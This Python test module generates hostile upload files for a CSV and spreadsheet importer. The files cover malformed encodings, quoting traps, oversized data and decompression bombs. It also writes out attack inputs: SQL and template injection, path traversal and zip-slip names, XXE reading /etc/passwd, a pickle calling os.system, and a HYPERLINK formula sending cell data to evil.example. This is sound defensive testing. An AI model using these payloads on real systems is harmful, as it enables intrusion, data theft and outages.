"""Files that want to harm: each made anew from a seed, small or giant, named after the bad inputs B1 to B30."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import random
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass
from functools import partial

import xlsxwriter

from tests.hostile.cells import CELLS

MB = 1_000_000
HEADER = "Company,Role,Date applied,Status,Feedback"
SAID = '"You were well prepared, but your examples stayed general."'


@dataclass(frozen=True, kw_only=True)
class HostileFile:
    """One bad file: what makes its bytes, the rows a person counts in it (None: nobody can say), and the name it comes by.

    `is_quick` is set where it costs so little that every run reads it.
    """

    kind: str
    what: str
    make: Callable[[], bytes]
    rows: int | None
    file_name: str = "jobs.csv"
    is_quick: bool = True

    @property
    def name(self) -> str:
        """Give the name it goes by in tables and tests."""
        return f"{self.kind} {self.what}"


def line(n: int, *, company: str = "Acme", end: str = "\n") -> str:
    """Give one good row."""
    return f"{company} {n},Chef {n},2026-0{n % 9 + 1}-1{n % 10},Second place,{SAID}{end}"


def table(rows: int = 5, *, header: str = HEADER, end: str = "\n") -> str:
    """Give a good table of so many rows."""
    return header + end + "".join(line(n, end=end) for n in range(rows))


def with_cell(cell: str, *, rows: int = 4) -> str:
    """Give a good table and one row more, whose feedback is the cell."""
    quoted = cell.replace('"', '""')
    return table(rows) + f'Zed,Chef,2026-03-01,Second place,"{quoted}"\n'


def all_files() -> list[HostileFile]:
    """Give every hostile file, in the order of the bad inputs."""
    found: list[HostileFile] = []
    for give in (
        *(_nothing, _bytes_and_encodings, _shapes, _quotes, _line_ends_and_delimiters, _headers, _words),
        *(_dates_and_numbers, _wide_and_long, _archives, _other_files, _workbooks, _open_documents, _names),
    ):
        found += give()
    return found


def _file(
    kind: str,
    what: str,
    content: bytes | str | Callable[[], bytes | str],
    rows: int | None = None,
    *,
    name: str = "jobs.csv",
    is_quick: bool = True,
) -> HostileFile:
    def make() -> bytes:
        made = content if isinstance(content, bytes | str) else content()
        return made.encode() if isinstance(made, str) else made

    return HostileFile(kind=kind, what=what, make=make, rows=rows, file_name=name, is_quick=is_quick)


def _nothing() -> Iterator[HostileFile]:
    for what, content in {
        "no byte": b"",
        "a byte order mark alone": b"\xef\xbb\xbf",
        "a UTF-16 mark alone": b"\xff\xfe",
        "one line end": b"\n",
        "one comma": b",",
        "one quote": b'"',
    }.items():
        yield _file("B1", what, content, 0)
    for what, content in {
        "with a line end": f"{HEADER}\n",
        "without one": HEADER,
        "behind a mark": f"\ufeff{HEADER}\r\n",
        "twice": f"{HEADER}\n{HEADER}\n",
        "in UTF-16": f"{HEADER}\n".encode("utf-16"),
        "and blank rows": HEADER + "\n,,,,\n" * 50,
    }.items():
        yield _file("B2", f"header {what}", content, 0)
    for what, sign in {
        "spaces": " ",
        "tabs": "\t",
        "line ends": "\n",
        "returns": "\r",
        "no-break spaces": "\u00a0",
        "zero-width spaces": "\u200b",
        "commas": ",",
        "commas and line ends": ",,,,\n",
        "blank quoted cells": '"",""\n',
        "form feeds": "\f",
    }.items():
        yield _file("B3", f"2,000 {what}", sign * 2_000, 0)
        under = f"Company,Role,Status\n{sign * 60_000}\nAcme,Chef,Offer\n"
        yield _file("B3", f"60,000 {what} under a header", under)
        yield _file(
            "B3", f"10 MB of {what}", lambda sign=sign: sign * (10 * MB // len(sign)), 0, is_quick=False
        )


def _bytes_and_encodings() -> Iterator[HostileFile]:
    good = table()
    yield _file("B4", "NUL in a cell", good.replace("Acme 2", "Ac\0me 2"), 5)
    yield _file("B4", "NUL after each letter of a cell", good.replace("general", "\0".join("general")), 5)
    yield _file("B4", "NUL at the end", good + "\0" * 5_000, 5)
    yield _file("B4", "NUL alone", b"\0" * 100_000, 0)
    yield _file("B4", "40 MB of NUL", lambda: b"\0" * 40 * MB, 0, is_quick=False)
    words = {
        "cp1252": "Société Générale – Zürich €",
        "cp1250": "Łódź, żółć, přílišně žluťoučký",
        "mac-roman": "Société à Zürich",
        "gb18030": "北京公司 面试反馈",
        "shift_jis": "東京の会社 面接",
        "koi8-r": "Компания Москва",
        "cp437": "Zürich ½",
        "iso-8859-8": "שלום חברה",
    }
    for encoding, word in words.items():
        yield _file(
            "B5", f"in {encoding}", table().replace("Acme", word).encode(encoding), None if "," in word else 5
        )
    for encoding in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le", "utf-32-be", "utf-8-sig"):
        yield _file("B6", f"in {encoding}", good.encode(encoding), 5)
    yield _file("B6", "UTF-16 cut in a letter", good.encode("utf-16")[:-1], 5)
    yield _file("B6", "UTF-16 with a lone surrogate", good.encode("utf-16") + b"\x00\xd8\n\0", None)
    yield _file("B6", "a UTF-16 mark before UTF-8", b"\xff\xfe" + good.encode(), None)
    yield _file("B6", "a UTF-32 mark before UTF-8", b"\xff\xfe\0\0" + good.encode(), None)
    yield _file("B6", "UTF-7", "+ADw-script+AD4-,Role,Status\nAcme,Chef,Offer\n", None)
    for what, bad in {
        "one byte": b"\xff",
        "an overlong slash": b"\xc0\xaf",
        "a surrogate": b"\xed\xa0\x80",
        "beyond Unicode": b"\xf5\x80\x80\x80",
        "a cut letter": "é".encode()[:1],
        "every byte": bytes(range(128, 256)),
    }.items():
        yield _file("B7", f"invalid: {what}", good.encode().replace(b"Acme 2", b"Acme " + bad), 5)
    head = f"{HEADER}\n".encode()
    for size, is_quick in ((2_000, True), (100_000, True), (40 * MB, False)):
        made = partial(_noise, size)
        yield _file("B7", f"{size:,} random bytes", made, is_quick=is_quick)
        under = partial(_noise, size, head=head)
        yield _file("B7", f"{size:,} random bytes under a header", under, is_quick=is_quick)
    high = partial(_noise, 20 * MB, head=head, letters=bytes(range(128, 256)))
    yield _file("B7", "20 MB of high bytes", high, is_quick=False)


def _noise(size: int, *, head: bytes = b"", letters: bytes | None = None) -> bytes:
    chance = random.Random(size)
    return head + (chance.randbytes(size) if letters is None else bytes(chance.choices(letters, k=size)))


def _shapes() -> Iterator[HostileFile]:
    good = table()
    yield _file("B8", "a row of nine cells", good + "Acme,Chef,2026-01-01,Offer,Fine,a,b,c,d\n", 6)
    yield _file("B8", "a row of 400 cells", good + "Acme,Chef,2026-01-01,Offer" + ",x" * 400 + "\n", 6)
    yield _file("B8", "a row of 16,000 cells", good + "Acme" + ",x" * 16_000 + "\n", 6)
    yield _file("B8", "a row of 20,000 cells", good + "Acme" + ",x" * 20_000 + "\n", 6)
    yield _file("B8", "a row of 20 MB of commas", lambda: good + "," * 20 * MB + "\n", is_quick=False)
    yield _file(
        "B8",
        "every row of 400 cells",
        lambda: good + ("Acme,Chef" + ",x" * 400 + "\n") * 20_000,
        20_005,
        is_quick=False,
    )
    yield _file("B9", "rows of one cell", HEADER + "\n" + "Acme\n" * 50, 50)
    yield _file(
        "B9",
        "rows of every width",
        HEADER + "\n" + "".join("Acme" + ",x" * (n % 9) + "\n" for n in range(300)),
        300,
    )
    yield _file(
        "B9", "300,000 rows of one cell", lambda: HEADER + "\n" + "Acme\n" * 300_000, 300_000, is_quick=False
    )


def _quotes() -> Iterator[HostileFile]:
    good = table()
    yield _file(
        "B10", "a quote opened in the last row", good + 'Acme,Chef,2026-01-01,Offer,"never closed\n', 6
    )
    yield _file(
        "B10",
        "a quote opened in the first row",
        f'{HEADER}\nAcme,Chef,2026-01-01,Offer,"never closed\n' + good.partition("\n")[2],
        None,
    )
    yield _file("B10", "a quote opened in the header", '"' + good, None)
    yield _file(
        "B10", "a quote opened in every row", HEADER + "\n" + 'Acme,"Chef,2026-01-01,Offer,x\n' * 400, None
    )
    yield _file(
        "B11",
        "a stray quote in every row",
        HEADER + "\n" + 'Acme 5" pipes,Chef,2026-01-01,Offer,"He said "no", twice"\n' * 100,
        100,
    )
    yield _file(
        "B11", "quotes within quotes", HEADER + "\n" + 'Acme,Chef,2026-01-01,Offer,"""""""\n' * 60, None
    )
    # Many small traps: a reader that looks again from each of them needs the square of the time.
    for what, part in {
        "quotes": '"',
        "doubled quotes": '""',
        "quoted commas": '","',
        "quotes and commas": '",',
        "commas and quotes": ',"',
        "quotes on lines": '"\n',
        "opened cells on lines": 'a,"b\n',
        "quotes after a space": ' "',
        "quotes within words": 'a"b',
        "opened cells that seem closed": '"a"b\n',
        "apostrophes": "','",
    }.items():
        few, large = 60_000 // len(part), 10 * MB // len(part)
        yield _file("B11", f"60 KB of {what}", f"{HEADER}\n{part * few}")
        yield _file(
            "B11",
            f"10 MB of {what}",
            lambda part=part, large=large: f"{HEADER}\n{part * large}",
            is_quick=False,
        )


def _line_ends_and_delimiters() -> Iterator[HostileFile]:
    for what, end in {"CR": "\r", "CRLF": "\r\n", "LF CR": "\n\r", "CR CR LF": "\r\r\n"}.items():
        yield _file("B12", f"{what} ends a line", table(end=end), 5)
    yield _file(
        "B12",
        "three line ends in turn",
        HEADER + "\n" + "".join(line(n, end=("\r", "\n", "\r\n")[n % 3]) for n in range(9)),
        9,
    )
    for what, sign in {
        "U+2028": "\u2028",
        "NEL": "\u0085",
        "a vertical tab": "\v",
        "a file separator": "\x1c",
    }.items():
        yield _file("B12", f"{what} within cells", table().replace("prepared", f"pre{sign}pared"), 5)
    plain = table().replace(SAID, "Fine")
    for sign in ";\t|:^\x01":
        yield _file(
            "B13", f"{sign!r} sets cells apart", plain.replace(",", sign), 5 if sign in ";\t|" else None
        )
        named = f"sep={sign}\n" + plain.replace(",", sign)
        yield _file("B13", f"sep={sign!r} is said", named, None if sign == "\x01" else 5)
    yield _file("B13", "sep= a quote", 'sep="\n' + plain)
    yield _file("B13", "sep= a letter", "sep=e\n" + plain)
    yield _file("B13", "sep= nothing", "sep=\n" + plain)
    yield _file("B13", "sep= a space", "sep= \n" + plain)
    yield _file(
        "B13",
        "two signs in turn",
        "".join(
            each.replace(",", ";") if n % 2 else each
            for n, each in enumerate(plain.splitlines(keepends=True))
        ),
    )


def _headers() -> Iterator[HostileFile]:
    row = "Acme,Chef,2026-01-01,Offer,Fine"
    rows = f"\n{row}" * 3 + "\n"
    yield _file("B14", "all headers alike", "Company,Company,Company,Company,Company" + rows, 3)
    yield _file("B14", "all headers empty", ",,,," + rows)
    yield _file("B14", "some headers empty", "Company,,Date applied,,Feedback" + rows, 3)
    yield _file(
        "B14", "450 headers alike", ",".join(["Company"] * 450) + ("\nAcme" + ",x" * 449) * 3 + "\n", 3
    )
    yield _file(
        "B14",
        "450 feedback columns",
        "Company,Role" + ",Feedback" * 448 + ("\nAcme,Chef" + ",be clear" * 448) * 3 + "\n",
        3,
    )
    for what, header in {
        "DROP TABLE": '"x""); DROP TABLE interviews; --"',
        "a closing quote": '"\'; DELETE FROM feedback; --"',
        "a placeholder": "$company",
        "a format": "{0.__class__.__init__.__globals__}",
        "a template": "{{ 7*7 }}",
        "__proto__": "__proto__",
        "a path": "../../../etc/passwd",
        "a table of ours": "interviews.import_id",
        "a file to read": "\"read_csv('/etc/passwd')\"",
        "a line end": '"Sta\ntus"',
        "percent signs": "%s%n%d",
    }.items():
        yield _file(
            "B15",
            f"header: {what}",
            f"Company,Role,Date applied,Status,Feedback,{header}" + f"\n{row},own" * 3 + "\n",
            3,
        )
    yield _file("B16", "a header of 200 KB", f"Company,Role,Date applied,Status,{'H' * 200_000}" + rows, 3)
    yield _file(
        "B16",
        "a header of 40 MB",
        lambda: f"Company,Role,Date applied,Status,{'H' * 40 * MB}" + rows,
        is_quick=False,
    )
    yield _file(
        "B16",
        "400 headers of 10 KB",
        lambda: "Company,Status," + ",".join("H" * 10_000 + str(n) for n in range(400)) + rows,
        3,
    )
    yield _file(
        "B16",
        "a header of 100,000 lines",
        lambda: 'Company,Status,"' + "x\n" * 100_000 + '"' + rows,
        is_quick=False,
    )
    yield _file(
        "B16",
        "a header of 200 KB of digits",
        lambda: f"Company,Role,Date applied,Status,{'1' * 200_000}" + rows,
    )
    yield _file(
        "B16",
        "a header of 200 KB of signs",
        lambda: f"Company,Role,Date applied,Status,{'.-/' * 70_000}" + rows,
    )
    for what, header in {
        "zero width": "\u200bCompany\u200b,R\u200dole,Da\u2060te applied,Status\ufeff,Feedback",
        "two marks": "\ufeff\ufeff" + HEADER,
        "soft hyphens": "Com\u00adpany,Ro\u00adle,Date applied,Sta\u00adtus,Feedback",
        "full width": "Ｃｏｍｐａｎｙ,Ｒｏｌｅ,Date applied,Ｓｔａｔｕｓ,Feedback",
        "right to left": "\u202eCompany\u202c,Role,Date applied,Status,Feedback",
        "piled accents": "Company" + "\u0301" * 2_000 + ",Role,Date applied,Status,Feedback",
        "look-alikes": "Сompаny,Rоle,Date applied,Status,Feedback",
    }.items():
        yield _file("B17", f"header: {what}", header + rows, 3)


def _words() -> Iterator[HostileFile]:
    for what, cell in {
        "right to left": "\u202egnp.exe\u202c שלום مرحبا",
        "emoji": "👩‍👩‍👧‍👦🏳️‍🌈👻" * 50,
        "piled accents": "e" + "\u0301\u0323\u0308" * 20_000,
        "one long ligature": "\ufdfa" * 30_000,
        "zero width only": "\u200b\u200d\u2060" * 5_000,
        "private use": "\ue07c\uf8ff\U0010ffff",
        "no characters": "\ufffe\uffff\U0001fffe",
        "every control": "".join(map(chr, [*range(1, 9), 11, 12, *range(14, 32), *range(127, 160)])),
        "ANSI escapes": "\x1b[2J\x1b]0;owned\x07\x1b[31mred",
        "one word of 900,000 letters": "a" * 900_000,
        "900,000 digits": "7" * 900_000,
        "900,000 dots": "." * 900_000,
        "100,000 short sentences": "No. " * 100_000,
        "a quoted mail of 20,000 lines": "> > you were clear\n" * 20_000,
        "100,000 opening brackets": "([{" * 33_000,
        "900,000 spaces between two words": "a" + " " * 900_000 + "b",
    }.items():
        yield _file("B18", f"a cell of {what}", lambda cell=cell: with_cell(cell), 5)
    cells = [cell for cell in CELLS if cell.strip("-")]
    formulas = [cell for cell in cells if cell.lstrip(" \t\r\n\0\ufeff\u200b")[:1] in tuple("=+-@＝＋－＠")]
    yield _file("B19", "formulas in every column", lambda: _rows_of(formulas), len(formulas))
    yield _file(
        "B19",
        "20,000 formulas",
        lambda: _rows_of(formulas * (20_000 // len(formulas))),
        20_000 // len(formulas) * len(formulas),
        is_quick=False,
    )
    yield _file("B20", "every hostile cell in every column", lambda: _rows_of(cells), len(cells))
    yield _file(
        "B20",
        "20,000 hostile cells",
        lambda: _rows_of(cells * (20_000 // len(cells))),
        20_000 // len(cells) * len(cells),
        is_quick=False,
    )
    empty = [
        "NA",
        "N/A",
        "None",
        "null",
        "NaN",
        "nil",
        "-",
        "#N/A",
        "#REF!",
        "undefined",
        "inf",
        "-inf",
        "true",
        "?",
    ]
    yield _file(
        "B21",
        "words for nothing as feedback",
        lambda: (
            HEADER
            + "\n"
            + "".join(f"Acme {n},Chef,2026-01-01,Offer,{each}\n" for n, each in enumerate(empty))
        ),
        len(empty),
    )
    yield _file(
        "B21",
        "words for nothing as company",
        lambda: HEADER + "\n" + "".join(f"{each},Chef,2026-01-01,Offer,Fine\n" for each in empty),
        len(empty),
    )


def _rows_of(cells: Iterable[str]) -> str:
    """A row of each cell, in every column; dashes alone are the rule under a table's header and no row."""
    out = [HEADER + ",Notes,Industry"]
    for cell in cells:
        quoted = '"' + cell.replace('"', '""') + '"'
        out.append(f"{quoted},{quoted},{quoted},{quoted},{quoted},{quoted},{quoted}")
    return "\n".join(out) + "\n"


def _dates_and_numbers() -> Iterator[HostileFile]:
    dates = [
        "0000-00-00", "9999-12-31", "10000-01-01", "2026-02-30", "31/02/2026", "1e999", "-1e999", "NaN", "99999999999", "45000",
        "0", "-1", "²/³/2026", "٣/٤/٢٠٢٦", "2026-W60-9", "2026-366", "24:61:61", "2026-01-01T99:99Z", "1/1/1", "yesterday",
        "29 Feb 2025", "2026-01-01+99:99", "１２/３/２０２６", "1" * 5_000, "1/" * 3_000, "31.31.31", "0x7e9", "1_0/1_0/2026",
    ]  # fmt: skip
    yield _file(
        "B22",
        "odd dates",
        lambda: HEADER + "\n" + "".join(f"Acme {n},Chef,{each},Offer,Fine\n" for n, each in enumerate(dates)),
        len(dates),
    )
    yield _file(
        "B22",
        "20,000 odd dates",
        lambda: (
            HEADER
            + "\n"
            + "".join(f"Acme {n},Chef,{dates[n % len(dates)]}{n % 97},Offer,Fine\n" for n in range(20_000))
        ),
        20_000,
        is_quick=False,
    )
    for what, number in {
        "1e999": "1e999",
        "a number of 5,000 digits": "9" * 5_000,
        "a minus": "-",
        "an odd digit": "²",
        "a negative": "-4",
    }.items():
        yield _file(
            "B22",
            f"rounds: {what}",
            f"{HEADER},Rounds\n" + f"Acme,Chef,2026-01-01,Offer,Fine,{number}\n" * 3,
            None,
        )
    yield _file(
        "B22",
        "as many outcome words as rows",
        lambda: HEADER + "\n" + "".join(f"Acme {n},Chef,2026-01-01,word{n},Fine\n" for n in range(2_000)),
        2_000,
    )
    yield _file(
        "B22",
        "50,000 outcome words",
        lambda: HEADER + "\n" + "".join(f"Acme {n},Chef,2026-01-01,word{n},Fine\n" for n in range(50_000)),
        50_000,
        is_quick=False,
    )


def _wide_and_long() -> Iterator[HostileFile]:
    def wide(columns: int, rows: int) -> str:
        extra = columns - 2
        return (
            "Company,Status"
            + "".join(f",c{n}" for n in range(extra))
            + ("\nAcme,Offer" + ",x" * extra) * rows
            + "\n"
        )

    for columns, rows in ((500, 3), (501, None), (10_000, None), (16_384, None), (17_000, None)):
        yield _file("B23", f"{columns:,} columns", lambda columns=columns: wide(columns, 3), rows)
    yield _file("B23", "1,000,000 columns", lambda: wide(1_000_000, 1), is_quick=False)
    yield _file("B23", "10,000 columns in 1,000 rows", lambda: wide(10_000, 1_000), is_quick=False)
    yield _file("B23", "500 columns in 20,000 rows", lambda: wide(500, 20_000), 20_000, is_quick=False)
    yield _file("B24", "a cell of the limit", lambda: with_cell("a" * MB), 5)
    yield _file("B24", "a cell one above the limit", lambda: with_cell("a" * (MB + 1)), 5)
    yield _file("B24", "a cell of 49 MB", lambda: with_cell("a" * 49 * MB), 5, is_quick=False)
    yield _file("B24", "a cell of 49 MB of lines", lambda: with_cell("ab\n" * 16 * MB), 5, is_quick=False)
    yield _file(
        "B24",
        "45 cells of 1 MB",
        lambda: table() + "".join(f"Acme,Chef,2026-01-01,Offer,{'b ' * (MB // 2 - 1)}\n" for _ in range(45)),
        50,
        is_quick=False,
    )
    yield _file("B24", "a line of 49 MB", lambda: "a" * 49 * MB, is_quick=False)
    yield _file("B25", "one byte above 50 MB", lambda: b"a" * (50 * MB + 1))
    yield _file("B25", "100 MB", lambda: b"Company,Role\n" + b"Acme,Chef\n" * 10 * MB, is_quick=False)
    yield _file("B25", "25 million lines", lambda: b"a\n" * 25 * MB, is_quick=False)
    yield _file("B25", "1,000,100 rows", lambda: "Company,Status\n" + "A,Offer\n" * 1_000_100, is_quick=False)
    yield _file(
        "B25",
        "4 million blank lines and a row",
        lambda: "Company,Status\n" + "\n" * 4_000_000 + "A,Offer\n",
        is_quick=False,
    )


def zipped(*members: tuple[str, bytes], way: int = zipfile.ZIP_DEFLATED) -> bytes:
    """Give an archive of these members."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", way) as made:
        for name, content in members:
            made.writestr(name, content)
    return packed.getvalue()


def streamed_zip(*members: tuple[str, Iterable[bytes]]) -> bytes:
    """Give an archive whose members are never whole in memory."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED, compresslevel=6) as made:
        for name, chunks in members:
            with made.open(name, "w", force_zip64=True) as member:
                for chunk in chunks:
                    member.write(chunk)
    return packed.getvalue()


def _zeros(megabytes: int, sign: bytes = b"\0") -> Iterator[bytes]:
    chunk = sign * (MB // len(sign))
    for _ in range(megabytes):
        yield chunk


def _archives() -> Iterator[HostileFile]:
    good = table().encode()
    yield _file("B26", "gzip", gzip.compress(good, mtime=0), name="jobs.csv.gz")
    yield _file("B26", "bzip2", bz2.compress(good))
    yield _file("B26", "xz", lzma.compress(good))
    yield _file("B26", "7z", b"7z\xbc\xaf\x27\x1c" + b"\0" * 64)
    yield _file("B26", "gzip of 1 GB", lambda: _gzip_of(1_000), is_quick=False)
    packed = zipped(("jobs.csv", good))
    yield _file("B26", "zip", packed, 5, name="jobs.zip")
    yield _file("B26", "zip in bzip2", zipped(("jobs.csv", good), way=zipfile.ZIP_BZIP2), 5)
    yield _file("B26", "zip in lzma", zipped(("jobs.csv", good), way=zipfile.ZIP_LZMA), 5)
    yield _file("B26", "zip cut", packed[:-30])
    yield _file(
        "B26", "zip with a wrong sum", packed.replace(struct.pack("<I", zlib.crc32(good)), b"\1\2\3\4")
    )
    yield _file("B26", "zip that says it is locked", _flagged(packed, 1))
    yield _file("B26", "zip by an unknown way", _way(packed, 97))
    yield _file(
        "B26",
        "zip in lzma with a dictionary of 4 GB",
        _large_dictionary(zipped(("jobs.csv", good), way=zipfile.ZIP_LZMA)),
    )
    yield _file(
        "B26", "zip within zip within zip", zipped(("a.csv", zipped(("b.csv", zipped(("c.csv", good))))))
    )
    yield _file("B26", "zip that climbs", zipped(("../../../../etc/cron.d/jobs.csv", good)), 5)
    yield _file("B26", "zip with a folder named as a file", zipped(("jobs.csv/", b"")))
    yield _file("B26", "zip with a name of markup", zipped(("<img src=x onerror=alert(1)>.csv", good)), 5)
    yield _file("B26", "zip of no file", zipped())
    yield _file(
        "B26", "zip of 3,000 files", lambda: zipped(*((f"{n}.csv", b"Company\nA\n") for n in range(3_000)))
    )
    yield _file(
        "B26",
        "zip of 1,900 tables",
        lambda: zipped(*((f"{n}.csv", good * 100) for n in range(1_900))),
        is_quick=False,
    )
    yield _file(
        "B26", "zip of 1 GB of NUL", lambda: streamed_zip(("jobs.csv", _zeros(1_000))), is_quick=False
    )
    yield _file(
        "B26",
        "zip of 1 GB of rows",
        lambda: streamed_zip(("jobs.csv", [b"Company,Status\n", *_zeros(1_000, b"Acme,Offer\n")])),
        is_quick=False,
    )
    yield _file("B26", "zip of 48 MB of commas", lambda: zipped(("jobs.csv", b"," * 48 * MB)), is_quick=False)
    yield _file("B26", "zip of 48 MB of quotes", lambda: zipped(("jobs.csv", b'"' * 48 * MB)), is_quick=False)
    yield _file(
        "B26",
        "zip of 100 tables of 48 MB",
        lambda: streamed_zip(*((f"{n}.csv", _zeros(48, b"a")) for n in range(100))),
        is_quick=False,
    )
    yield _file("B26", "tar", _tar(good), name="jobs.tar")


def _gzip_of(megabytes: int) -> bytes:
    out = io.BytesIO()
    with gzip.GzipFile(fileobj=out, mode="wb", mtime=0) as packing:
        for chunk in _zeros(megabytes):
            packing.write(chunk)
    return out.getvalue()


def _flagged(packed: bytes, flag: int) -> bytes:
    return _patched(packed, local=(6, struct.pack("<H", flag)), central=(8, struct.pack("<H", flag)))


def _way(packed: bytes, way: int) -> bytes:
    return _patched(packed, local=(8, struct.pack("<H", way)), central=(10, struct.pack("<H", way)))


def _patched(packed: bytes, *, local: tuple[int, bytes], central: tuple[int, bytes]) -> bytes:
    out = bytearray(packed)
    for mark, (offset, value) in ((b"PK\x03\x04", local), (b"PK\x01\x02", central)):
        at = packed.find(mark) + offset
        out[at : at + len(value)] = value
    return bytes(out)


def _large_dictionary(packed: bytes) -> bytes:
    out = bytearray(packed)
    at = packed.find(b"jobs.csv") + len(
        "jobs.csv"
    )  # the data: version (2), size of properties (2), properties (5)
    out[at + 5 : at + 9] = b"\xff\xff\xff\xff"
    return bytes(out)


def _tar(content: bytes) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as made:
        about = tarfile.TarInfo("jobs.csv")
        about.size = len(content)
        made.addfile(about, io.BytesIO(content))
    return out.getvalue()


def _other_files() -> Iterator[HostileFile]:
    for what, content in {
        "PNG": b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 20,
        "JPEG": b"\xff\xd8\xff\xe0" + bytes(range(256)) * 20,
        "GIF": b"GIF89a" + bytes(range(256)),
        "WebP": b"RIFF\x24\0\0\0WEBPVP8 " + bytes(range(256)),
        "PDF": b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n",
        "HTML": b"<!doctype html><html><script>alert(1)</script><table><tr><td>Company</td></tr></table></html>",
        "HTML behind blanks": b"\n" * 3_000 + b"<html><body>Company</body></html>",
        "JSON": b'[{"company": "Acme", "role": "Chef"}]',
        "JSON, deeply nested": b"[" * 200_000,
        "JSON of braces": b'{"a":' * 100_000,
        "JSON lines": b'{"company": "Acme"}\n{"company": "Bolt"}\n',
        "XML with entities": b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><l>&b;</l>',
        "SVG": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        "RTF": b"{\\rtf1 Company}",
        "SQLite": b"SQLite format 3\0" + b"\0" * 4_000,
        "DuckDB": b"\1\2\3\4\5\6\7\x08DUCK" + b"\0" * 4_000,
        "Parquet": b"PAR1" + b"\0" * 400 + b"PAR1",
        "ELF": b"\x7fELF\x02\x01\x01" + b"\0" * 4_000,
        "a Windows program": b"MZ\x90\0" + bytes(range(256)) * 8,
        "a pickle": b"\x80\x04cos\nsystem\n(S'true'\ntR.",
        "Python": b"import os\nos.system('true')\n",
        "a shell script": b"#!/bin/sh\nrm -rf /tmp/x\n",
        "a vCard": b"BEGIN:VCARD\nFN:Ann\nEND:VCARD\n",
        "a Word document": zipped(("word/document.xml", b"<w/>")),
        "a slide show": zipped(("ppt/presentation.xml", b"<p/>")),
    }.items():
        yield _file("B27", f"{what} named .csv", content)


# ------------------------------------------------------------------------------------------- workbooks

_TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
_RELS = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
    b'Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'
)
_SHEET_RELS = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
    b'Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/><Relationship '
    b'Id="r2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>'
)
_BOOK = (
    b'<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas'
    b'.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Jobs" sheetId="1" r:id="r1"/></sheets></workbook>'
)
_MAIN = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def raw_book(sheet: Iterable[bytes], strings: Iterable[bytes] = (), *, prolog: bytes = b"") -> bytes:
    """Give a workbook of one sheet, whose rows and shared strings are written as they are."""
    head = b'<?xml version="1.0"?>' + prolog
    return streamed_zip(
        ("[Content_Types].xml", [_TYPES]),
        ("_rels/.rels", [_RELS]),
        ("xl/workbook.xml", [_BOOK]),
        ("xl/_rels/workbook.xml.rels", [_SHEET_RELS]),
        ("xl/sharedStrings.xml", [head, b"<sst ", _MAIN, b">", *strings, b"</sst>"]),
        ("xl/worksheets/sheet1.xml", [head, b"<worksheet ", _MAIN, b"><sheetData>", *sheet, b"</sheetData></worksheet>"]),
    )  # fmt: skip


def _inline(ref: str, text: str) -> bytes:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'.encode()


def _titles(*more: bytes) -> list[bytes]:
    cells = [_inline(f"{column}1", title) for column, title in zip("ABCDE", HEADER.split(","), strict=True)]
    return [b'<row r="1">', *cells, b"</row>", *more]


def _a_row(n: int, text: str = "Acme") -> bytes:
    return (
        f'<row r="{n}">'.encode()
        + b"".join(
            _inline(f"{c}{n}", t)
            for c, t in zip("ABCDE", (text, "Chef", "2026-01-01", "Offer", "Fine"), strict=True)
        )
        + b"</row>"
    )


def made_book(write: Callable[[xlsxwriter.Workbook], None]) -> bytes:
    """Give a workbook that a library writes."""
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"in_memory": True})
    write(book)
    book.close()
    return out.getvalue()


def _many_sheets(sheets: int) -> bytes:
    def write(book: xlsxwriter.Workbook) -> None:
        for _ in range(sheets):
            book.add_worksheet().write_row(0, 0, HEADER.split(","))

    return made_book(write)


def _formulas() -> bytes:
    def write(book: xlsxwriter.Workbook) -> None:
        sheet = book.add_worksheet()
        sheet.write_row(0, 0, HEADER.split(","))
        for n in range(1, 6):
            sheet.write_formula(n, 0, '=HYPERLINK("http://evil.example/"&A1)', None, f"Acme {n}")
            sheet.write_row(n, 1, ["Chef", "2026-01-01", "Offer"])
            sheet.write_url(n, 4, "http://evil.example/", string="Fine")

    return made_book(write)


def _workbooks() -> Iterator[HostileFile]:
    def book(
        what: str, make: Callable[[], bytes], rows: int | None = None, *, is_quick: bool = True
    ) -> HostileFile:
        return _file("B28", f"xlsx: {what}", make, rows, name="jobs.xlsx", is_quick=is_quick)

    good = raw_book(_titles(*map(_a_row, range(2, 7))))
    laughs = b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>'
    reads = b'<!DOCTYPE x [<!ENTITY c SYSTEM "file:///etc/passwd">]>'
    yield book("named .csv", lambda: good, 5)
    yield book(
        "a far cell",
        lambda: raw_book(_titles(_a_row(2), b'<row r="1048576">', _inline("XFD1048576", "x"), b"</row>")),
    )
    yield book("a far row", lambda: raw_book(_titles(_a_row(2), _a_row(1_048_576))), 2)
    yield book(
        "a far column",
        lambda: raw_book(_titles(b'<row r="2">', _inline("A2", "Acme"), _inline("XFD2", "x"), b"</row>")),
        1,
    )
